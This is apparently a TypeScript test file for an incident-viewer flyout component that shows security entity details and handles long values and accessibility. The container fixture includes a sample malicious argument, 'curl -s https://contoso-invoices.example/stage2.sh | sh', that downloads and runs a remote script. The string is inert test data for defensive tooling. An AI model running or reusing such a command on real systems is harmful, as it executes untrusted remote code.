import { expect, fixture, html, waitUntil } from '@open-wc/testing';
import '../../src/components/entity-flyout/define.js';
import type { EntityFlyout } from '../../src/components/entity-flyout/entity-flyout.js';
import { fromMicrosoftGraph } from '../../src/formats/msgraph/index.js';
import type { IncidentSnapshot } from '../../src/model/types.js';
import { ENTITY_KINDS } from '../../src/model/types.js';
import { IncidentSession } from '../../src/session/session.js';
import { styleProperties } from '../../src/components/shared/style-properties.js';
import { EXTRA_KIND_IDS, KIND_IDS, entityKindsSnapshot } from '../fixtures/entity-kinds-snapshot.js';
import { readSharedJson } from '../helpers/shared-data.js';
import { fieldText, longValue, root } from './entity-flyout-helpers.js';

function sessionOn(snapshot: IncidentSnapshot, entityId: string): IncidentSession {
  const session = new IncidentSession();
  session.setSnapshot(snapshot);
  session.select({ entityIds: [entityId] });
  return session;
}

async function flyoutFor(session: IncidentSession, width: number): Promise<EntityFlyout> {
  return fixture<EntityFlyout>(
    html`<il-entity-flyout style=${styleProperties({ display: 'flex', width: `${width}px`, height: '640px' })} .session=${session}></il-entity-flyout>`,
  );
}

function expandButton(el: EntityFlyout, key: string): HTMLButtonElement | null {
  return longValue(el, key).querySelector<HTMLButtonElement>('button[aria-expanded]');
}

/** Waits for two animation frames, so resize observers have run. */
async function nextFrames(): Promise<void> {
  for (let frame = 0; frame < 2; frame++) await new Promise((resolve) => requestAnimationFrame(resolve));
}

describe('<il-entity-flyout> by entity kind', () => {
  describe('details', () => {
    it('covers every entity kind', () => {
      expect(Object.keys(KIND_IDS).sort()).to.deep.equal([...ENTITY_KINDS].sort());
    });

    const cases: [string, string, Record<string, string>][] = [
      [
        'mailCluster',
        EXTRA_KIND_IDS.mailCluster,
        {
          'Clustered by': 'Sender',
          'Cluster value': 'billing@contoso-invoices.example',
          Messages: '14',
          Query: 'SenderFromAddress == "billing@contoso-invoices.example" and Timestamp > ago(2d)',
        },
      ],
      [
        'dnsName',
        EXTRA_KIND_IDS.dnsName,
        { Domain: 'contoso-invoices.example', 'Host IP address': '203.0.113.45', 'DNS server': '10.20.0.53' },
      ],
      [
        'oauthApp',
        EXTRA_KIND_IDS.oauthApp,
        {
          'Display name': 'Invoice Sync',
          'Application ID': '6f1c2d3e-4a5b-4c6d-8e7f-9a0b1c2d3e4f',
          Publisher: 'Invoice Tools Ltd',
        },
      ],
      [
        'cloudResource',
        EXTRA_KIND_IDS.cloudResource,
        {
          'Source type': 'azureResourceEvidence',
          'Resource name': 'fininvoices',
          'Resource type': 'Storage accounts',
          'Resource ID': '/subscriptions/2b7c/resourceGroups/finance-rg/providers/Microsoft.Storage/storageAccounts/fininvoices',
        },
      ],
      [
        'securityGroup',
        EXTRA_KIND_IDS.securityGroup,
        { 'Display name': 'Finance Admins', 'Group ID': '1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d' },
      ],
      [
        'container',
        EXTRA_KIND_IDS.container,
        {
          Name: 'invoice-worker',
          'Container ID': '3f9e2b1c7d8a',
          Image: 'contosoregistry.azurecr.io/invoice-worker:1.4.2',
          Privileged: 'Yes',
          Command: '/bin/sh -c',
          Arguments: 'curl -s https://contoso-invoices.example/stage2.sh | sh',
        },
      ],
    ];

    for (const [kind, id, expected] of cases) {
      it(`shows the ${kind} fields`, async () => {
        const el = await flyoutFor(sessionOn(entityKindsSnapshot(), id), 420);
        for (const [label, value] of Object.entries(expected)) {
          expect(fieldText(el, label), label).to.equal(value);
        }
      });
    }

    it('keeps a nested object listed when one field shows part of it', async () => {
      const el = await flyoutFor(sessionOn(entityKindsSnapshot(), EXTRA_KIND_IDS.dnsName), 420);

      const listed = root(el).querySelector('dl[aria-labelledby="other-heading"] .field[data-key="hostIpAddress"] code');

      expect(fieldText(el, 'Host IP address')).to.equal('203.0.113.45');
      expect(listed!.textContent).to.contain('"countryLetterCode": "NL"');
    });

    it('passes axe for every entity kind', async () => {
      for (const id of Object.values(KIND_IDS)) {
        const el = await flyoutFor(sessionOn(entityKindsSnapshot(), id), 360);
        await expect(el).to.be.accessible();
      }
    });
  });

  describe('Microsoft Graph sample', () => {
    async function graphSnapshot(context: Mocha.Context): Promise<IncidentSnapshot> {
      const payload = await readSharedJson(context, 'msgraph/graph-v1.0_security-alert-get.response.json');
      return fromMicrosoftGraph(payload)[0]!;
    }

    it('shows the process parent, image hashes and user', async function () {
      const snapshot = await graphSnapshot(this);
      const process = snapshot.entities.find((entity) => entity.kind === 'process' && !entity.ghost)!;
      const image = process.properties.imageFile as Record<string, string>;
      const parent = process.properties.parentProcessImageFile as Record<string, string>;
      const el = await flyoutFor(sessionOn(snapshot, process.id), 420);

      expect(fieldText(el, 'Parent image file')).to.equal(`${parent.filePath}\\${parent.fileName}`);
      expect(fieldText(el, 'Image file SHA256')).to.equal(image.sha256);
      expect(fieldText(el, 'Image file SHA1')).to.equal(image.sha1);
      expect(fieldText(el, 'Account')).to.be.a('string').and.not.equal('');
    });

    it('shows the device fields an analyst reads first', async function () {
      const snapshot = await graphSnapshot(this);
      const device = snapshot.entities.find((entity) => entity.kind === 'device')!;
      const el = await flyoutFor(sessionOn(snapshot, device.id), 420);
      const labels = [...root(el).querySelectorAll('[part~="details"] dl:first-of-type dt')].map((dt) => dt.textContent!.trim());

      expect(labels).to.include.members(['DNS name', 'OS platform', 'OS build', 'Health state', 'Risk level']);
      expect(fieldText(el, 'DNS name')).to.equal(device.properties.deviceDnsName);
    });
  });

  describe('long values', () => {
    const sha256 = '9f2c3e1d4b5a69788c7b6a5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f';

    it('offers no expand button when the value fits', async () => {
      const el = await flyoutFor(sessionOn(entityKindsSnapshot(), KIND_IDS.file), 900);
      await nextFrames();

      expect(longValue(el, 'sha256').textContent).to.contain(sha256.slice(-16));
      expect(expandButton(el, 'sha256')).to.equal(null);
      expect(longValue(el, 'sha256').querySelector('button')!.textContent!.trim()).to.equal('Copy');
    });

    it('offers the expand button at a narrow width', async () => {
      const el = await flyoutFor(sessionOn(entityKindsSnapshot(), KIND_IDS.file), 220);
      const head = longValue(el, 'sha256').querySelector<HTMLElement>('.long-value__head')!;

      expect(head.scrollWidth, 'the hash is cut').to.be.greaterThan(head.clientWidth);
      expect(expandButton(el, 'sha256')).to.not.equal(null);
      expect(expandButton(el, 'sha256')!.getAttribute('aria-expanded')).to.equal('false');
    });

    it('adds and removes the button as the pane resizes', async () => {
      const el = await flyoutFor(sessionOn(entityKindsSnapshot(), KIND_IDS.file), 900);
      await nextFrames();
      expect(expandButton(el, 'sha256')).to.equal(null);

      el.style.width = '220px';
      await waitUntil(() => expandButton(el, 'sha256') !== null, 'no expand button after narrowing');

      el.style.width = '900px';
      await waitUntil(() => expandButton(el, 'sha256') === null, 'the expand button stayed after widening');
    });

    it('keeps the collapse button while expanded', async () => {
      const el = await flyoutFor(sessionOn(entityKindsSnapshot(), KIND_IDS.file), 220);
      expandButton(el, 'sha256')!.click();
      await el.updateComplete;
      el.style.width = '900px';
      await nextFrames();

      expect(expandButton(el, 'sha256')!.textContent!.trim()).to.equal('Collapse');
      expect(longValue(el, 'sha256').querySelector('code')!.textContent).to.equal(sha256);
    });

    it('never widens the pane at a narrow width', async () => {
      const el = await flyoutFor(sessionOn(entityKindsSnapshot(), EXTRA_KIND_IDS.cloudResource), 220);
      const body = root(el).querySelector<HTMLElement>('[part~="body"]')!;
      expect(body.scrollWidth).to.equal(body.clientWidth);

      expandButton(el, 'resourceId')!.click();
      await el.updateComplete;
      expect(body.scrollWidth).to.equal(body.clientWidth);
      expect(el.scrollWidth).to.equal(el.clientWidth);
    });

    it('passes axe with and without expand buttons', async () => {
      const narrow = await flyoutFor(sessionOn(entityKindsSnapshot(), KIND_IDS.process), 220);
      await expect(narrow).to.be.accessible();

      const wide = await flyoutFor(sessionOn(entityKindsSnapshot(), KIND_IDS.file), 900);
      await nextFrames();
      await expect(wide).to.be.accessible();
    });
  });
});
